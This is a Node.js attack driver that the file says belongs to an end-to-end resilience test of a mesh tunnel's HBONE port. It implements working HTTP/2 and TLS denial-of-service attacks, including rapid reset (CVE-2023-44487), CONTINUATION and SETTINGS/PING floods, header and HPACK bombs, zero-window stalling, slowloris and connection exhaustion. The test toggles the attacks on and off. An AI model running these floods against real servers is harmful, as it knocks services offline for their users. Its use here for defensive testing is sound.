// The attacker of tests/e2e/attack_test.cc: HTTP/2 and TLS abuse against a
// tunnel's HBONE port, with frames written by hand (frames.mjs) on Node's own TLS.
//
//   node attacker.mjs MODE --host IP --port 15008 [--authority IP:PORT]
//        [--ca ROOT --cert C --key K] [--connections N] [--sources IP,IP,...] [--count N]
//        [--control FIFO]
//
// MODE: rapid-reset, continuation, settings-flood, ping-flood, zero-window,
// header-huge, header-many, header-hpack, slowloris-headers, slowloris-tls,
// connections. Controlled on stdin (or the FIFO --control names), one word a line, so that the test can
// interleave attacked and unattacked samples in one run:
//   on   start (floods loop; holders open and hold their connections), answered
//        {"event":"on", ...} once the attack is in place
//   off  stop and close every connection, answered {"event":"off", stats}
// It prints {"event":"started"} when it reads commands.

import fs from 'node:fs';
import net from 'node:net';
import readline from 'node:readline';
import tls from 'node:tls';

import * as h2 from './frames.mjs';

function parseArgs(argv) {
  const out = { _: argv[0] };
  for (let i = 1; i < argv.length; i += 2) out[argv[i].replace(/^--/, '')] = argv[i + 1];
  return out;
}
const args = parseArgs(process.argv.slice(2));
const mode = args._;
const port = Number(args.port);
const nConns = Number(args.connections || 4);
const emit = (o) => process.stdout.write(JSON.stringify(o) + '\n');

let stats;
const resetStats = () => {
  stats = { connections: 0, closed: 0, resets: 0, bytesSent: 0, frames: 0, held: 0, streams: 0, refused: 0 };
};
resetStats();
let active = false;
const sockets = new Set();

function track(sock) {
  sockets.add(sock);
  stats.connections++;
  sock.on('error', (e) => {
    if (e.code === 'ECONNRESET') stats.resets++;
  });
  sock.on('close', () => {
    sockets.delete(sock);
    stats.closed++;
  });
  return sock;
}

// An mTLS connection as a mesh workload; `then` runs once TLS is up (ALPN h2).
function meshConnect(then) {
  const sock = tls.connect({
    host: args.host, port, ca: fs.readFileSync(args.ca), cert: fs.readFileSync(args.cert),
    key: fs.readFileSync(args.key), ALPNProtocols: ['h2'], minVersion: 'TLSv1.3',
    checkServerIdentity: () => undefined,
  });
  track(sock);
  sock.on('secureConnect', () => then(sock));
  return sock;
}

// Writes with backpressure: returns a promise that resolves when the socket can take more.
function send(sock, buf) {
  stats.bytesSent += buf.length;
  if (sock.destroyed) return Promise.resolve(false);
  if (sock.write(buf)) return Promise.resolve(true);
  return new Promise((resolve) => {
    const done = () => resolve(!sock.destroyed);
    sock.once('drain', done);
    sock.once('close', done);
  });
}

const start = (sock, extra = []) => send(sock, Buffer.concat([h2.PREFACE, h2.settings(extra)]));

// A flood: each of nConns connections runs `loop(sock)` until it closes, and is
// opened again while the attack is on.
function flood(loop, { read = true } = {}) {
  const one = () => {
    if (!active) return;
    const sock = meshConnect(async (s) => {
      if (!read) s.pause();  // never reads what the tunnel answers
      else s.on('data', () => {});
      await loop(s);
    });
    sock.on('close', () => setTimeout(one, 10));
  };
  for (let i = 0; i < nConns; i++) one();
  emit({ event: 'on' });
}

const modes = {
  // HEADERS then RST_STREAM, as fast as the connection takes them (CVE-2023-44487).
  'rapid-reset': () => flood(async (s) => {
    await start(s);
    let id = 1;
    const block = h2.connectBlock(args.authority);
    while (active && !s.destroyed) {
      const batch = [];
      for (let i = 0; i < 50; i++, id += 2) batch.push(h2.headerFrames(id, block), h2.rstStream(id));
      stats.frames += 100;
      if (!(await send(s, Buffer.concat(batch)))) break;
    }
  }),
  // A HEADERS without END_HEADERS, then CONTINUATIONs that never end (CVE-2024-27316 family).
  continuation: () => flood(async (s) => {
    await start(s);
    await send(s, h2.headerFrames(1, h2.connectBlock(args.authority), { endHeaders: false }));
    const filler = h2.block([['x-filler', 'a'.repeat(1000)]]);
    while (active && !s.destroyed) {
      stats.frames++;
      if (!(await send(s, h2.frame(h2.Type.CONTINUATION, 0, 1, filler)))) break;
    }
  }),
  // SETTINGS / PING frames whose ACKs the attacker never reads.
  'settings-flood': () => flood(async (s) => {
    await start(s);
    const batch = Buffer.concat(Array.from({ length: 100 }, () => h2.settings([[h2.Setting.ENABLE_PUSH, 0]])));
    while (active && !s.destroyed) {
      stats.frames += 100;
      if (!(await send(s, batch))) break;
    }
  }, { read: false }),
  'ping-flood': () => flood(async (s) => {
    await start(s);
    let n = 0;
    while (active && !s.destroyed) {
      const batch = Buffer.concat(Array.from({ length: 100 }, () => h2.ping(n++)));
      stats.frames += 100;
      if (!(await send(s, batch))) break;
    }
  }, { read: false }),
  // Header bombs, one request after another: a header list far past
  // SETTINGS_MAX_HEADER_LIST_SIZE, thousands of tiny fields, and HPACK
  // references that each expand to a 4 KiB table entry.
  'header-huge': () => bomb(() => h2.block([[':method', 'CONNECT'], [':authority', args.authority],
                                             ['x-bomb', 'b'.repeat(120000)]])),
  'header-many': () => bomb(() => Buffer.concat([h2.connectBlock(args.authority),
                                                 ...Array.from({ length: 8000 }, () => h2.literal('x', 'y'))])),
  'header-hpack': () => bomb((first) => Buffer.concat([
    ...(first ? [h2.literalIndexed('x-big', 'h'.repeat(4000))] : []),
    h2.connectBlock(args.authority),
    ...Array.from({ length: 4000 }, () => h2.indexed(h2.FIRST_DYNAMIC_INDEX)),
  ])),
  // Streams whose replies the attacker never takes: its SETTINGS give every
  // stream a window of 0 and it never sends WINDOW_UPDATE, while it sends the echo
  // app as much as the tunnel's windows allow.
  'zero-window': () => {
    const chunk = Buffer.alloc(16384, 'z');
    for (let c = 0; c < nConns; c++) {
      meshConnect(async (s) => {
        s.on('data', () => {});
        await start(s, [[h2.Setting.INITIAL_WINDOW_SIZE, 0]]);
        const ids = [];
        for (let i = 0, id = 1; i < 100; i++, id += 2) ids.push(id);
        await send(s, Buffer.concat(ids.map((id) => h2.headerFrames(id, h2.connectBlock(args.authority)))));
        stats.streams += ids.length;
        // 1 MiB per stream, round robin: far more than any buffer should take.
        for (let k = 0; k < 64 && active && !s.destroyed; k++)
          if (!(await send(s, Buffer.concat(ids.map((id) => h2.data(id, chunk)))))) break;
      });
    }
    setTimeout(() => emit({ event: 'on' }), 1500);
  },
  // Slowloris: a request's HEADERS one byte at a time (one TLS record each), or a
  // TLS handshake that never finishes (a record header, then a byte now and then).
  'slowloris-headers': () => drip((s, onReady) => {
    start(s).then(onReady);
    return h2.headerFrames(1, h2.connectBlock(args.authority));
  }, true),
  'slowloris-tls': () => drip(() => Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00]),
                                                   Buffer.alloc(512, 1)]), false),
  // Many TCP connections held open, from several source addresses of this pod.
  connections: () => {
    const sources = (args.sources || '').split(',').filter(Boolean);
    const count = Number(args.count || 10000);
    let settled = 0;
    const settle = () => {
      if (++settled === count) setTimeout(report, 1000);
    };
    const report = () => {
      stats.held = [...sockets].filter((s) => !s.destroyed).length;
      emit({ event: 'on', held: stats.held, resets: stats.resets, connections: stats.connections });
    };
    for (let i = 0; i < count; i++) {
      const s = track(net.connect({ host: args.host, port, localAddress: sources.length ? sources[i % sources.length]
                                                                                         : undefined }));
      s.once('connect', settle);
      s.once('error', settle);
    }
  },
};

// One header bomb per stream, as fast as the tunnel takes them, on nConns connections.
function bomb(makeBlock) {
  flood(async (s) => {
    await start(s);
    let id = 1;
    while (active && !s.destroyed) {
      const wire = h2.headerFrames(id, makeBlock(id === 1), { endStream: true });
      id += 2;
      stats.frames++;
      if (!(await send(s, wire))) break;
    }
  });
}

// Slowloris holders: nConns connections, each dripping `payload` one byte every 500 ms.
function drip(open, mesh) {
  let ready = 0;
  const onReady = () => {
    if (++ready === nConns) emit({ event: 'on', connections: nConns });
  };
  for (let i = 0; i < nConns; i++) {
    const go = (s) => {
      s.on('data', () => {});
      const payload = open(s, onReady);
      let at = 0;
      const t = setInterval(() => {
        if (s.destroyed || at >= payload.length || !active) return clearInterval(t);
        stats.bytesSent++;
        s.write(payload.subarray(at, ++at));
      }, 500);
      if (!mesh) onReady();
    };
    if (mesh) meshConnect(go);
    else {
      const s = track(net.connect({ host: args.host, port }));
      s.on('connect', () => go(s));
    }
  }
}

function stop() {
  active = false;
  stats.held = [...sockets].filter((s) => !s.destroyed).length;
  const report = { event: 'off', ...stats };
  for (const s of sockets) s.destroy();
  resetStats();
  // Wait until every socket is closed here, so the next phase starts clean.
  const wait = () => (sockets.size === 0 ? emit(report) : setTimeout(wait, 10));
  wait();
}

if (!modes[mode]) {
  process.stderr.write(`unknown mode ${mode}\n`);
  process.exit(2);
}
readline.createInterface({ input: args.control ? fs.createReadStream(args.control) : process.stdin }).on('line', (line) => {
  const cmd = line.trim();
  if (cmd === 'on' && !active) {
    active = true;
    modes[mode]();
  } else if (cmd === 'off') stop();
  else if (cmd === 'quit') process.exit(0);
}).on('close', () => process.exit(0));
emit({ event: 'started' });
